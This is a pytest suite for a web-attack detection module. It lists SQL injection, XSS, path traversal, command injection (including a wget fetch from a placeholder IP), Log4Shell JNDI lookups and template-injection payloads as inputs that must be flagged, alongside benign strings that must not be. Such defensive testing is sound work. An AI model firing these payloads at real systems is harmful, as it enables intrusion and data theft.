"""Payload patterns: what fires, what must not, and the filter that runs before them."""

import pyarrow as pa
import pyarrow.compute as pc
import pytest
from hypothesis import given
from hypothesis import strategies as st

from hodoscope.soc.detectors.web_patterns import MAX_CHARACTERS, SUSPECT, fold, judge

ATTACKS = {
    "sqli": [
        "1' OR '1'='1",
        "7 and 1=1--",
        "1 UN/**/ION SEL/**/ECT a,b",
        "x';WAITFOR DELAY '0:0:5'--",
        "5) order by 9--",
        "%2527%2520or%25201%253d1",
        "1 and (select sleep(9))",
        "-3 union all select null,null#",
    ],
    "xss": [
        "<script>alert(1)</script>",
        "%3Cimg%20src=x%20onerror=alert(1)%3E",
        '"><svg/onload=alert`1`>',
        "JaVaScRiPt:alert(1)",
        "&lt;script&gt;alert(1)",
        "';alert(String.fromCharCode(88))//",
    ],
    "traversal": [
        "../../../etc/passwd",
        "..%252f..%252f..%252fboot.ini",
        "/%c0%ae%c0%ae/%c0%ae%c0%ae/x",
        "....//....//....//x",
        "c:/windows/win.ini",
    ],
    "cmdi": [
        "x;cat /etc/hosts",
        "a|id",
        "8.8.8.8 && whoami",
        "$(wget http://192.0.2.1/a)",
        "`id`",
        "() { :;}; echo x",
        "x;${IFS}ls",
    ],
    "inclusion": ["php://filter/convert.base64-encode/resource=index", "data:text/plain;base64,PD9waHA="],
    "lookup": [
        "${jndi:ldap://192.0.2.1/a}",
        "${${lower:j}${::-n}di:rmi://192.0.2.1}",
        "{{7*7}}",
        "class.module.classLoader.x=1",
    ],
}
BENIGN = [
    "O'Brien or O'Neill",
    "rock 'n' roll",
    "select a room from the list",
    "union station",
    "2 and a half (men)",
    "50373",
    "c/ mayor 3, 2-e",
    "anne-marie@example.com",
    "https://www.example.com/back?x=1",
    "<b>bold</b>",
    "what is a < b and b > c?",
    '{"a": 1, "b": [2, 3]}',
    "run `sudo apt-get install x` and try again",
    "use `sh`, then `ls`",
    "C++ and C#",
    "order by phone",
    "drop me a line",
    "1 = one",
    "the script of the play; act 2",
    "it's $5 | $6",
    "/docs/../img/logo.png",
    "50% off",
    "cat pictures",
    "id",
    "ping",
    "a;b;c",
    "--verbose",
]


@pytest.mark.parametrize(("category", "text"), [(kind, text) for kind, texts in ATTACKS.items() for text in texts])
def test_attacks_are_recognised_in_any_dress(category: str, text: str) -> None:
    """Encoded, commented, nested and mixed-case payloads are named by their category."""
    assert category in [verdict.category for verdict in judge(text)]


@pytest.mark.parametrize("text", BENIGN)
def test_ordinary_text_is_left_alone(text: str) -> None:
    """Names, prose, prices, JSON and quoted commands are no attack."""
    assert judge(text) == ()


@pytest.mark.parametrize("text", [text for texts in ATTACKS.values() for text in texts])
def test_the_filter_lets_every_attack_through(text: str) -> None:
    """What the cheap filter drops is never judged, so it may drop no attack."""
    assert pc.match_substring_regex(pa.array([text]), SUSPECT)[0].as_py()


def test_folding_undoes_encoding_comments_and_lookups() -> None:
    """Twice encoded, versioned comments and nested lookups end as plain lower case."""
    assert fold("%2555NION%20%20/*x*/SELECT") == "union select"
    assert fold("/*!50000UNION*/ x") == "union x"
    assert fold("${${env:NOTHING:-j}ndi:dns://a}") == "${jndi:dns://a}"


@given(st.text(alphabet="<>'\"()/*%;.`|&= aoselcriptun$", max_size=400))
def test_any_text_is_judged_without_error(text: str) -> None:
    """Hostile characters in any order neither crash nor hang."""
    judge(text)


@pytest.mark.parametrize("piece", ["<a ", "(select ", "../", "' or ", "${", "/*", "%25", "a" * 9, "<script", "`", "/."])
def test_long_repetition_stays_cheap(piece: str) -> None:
    """The worst repetition at full length is judged in bounded time (the suite would stall otherwise)."""
    judge(piece * (2 * MAX_CHARACTERS // len(piece)))
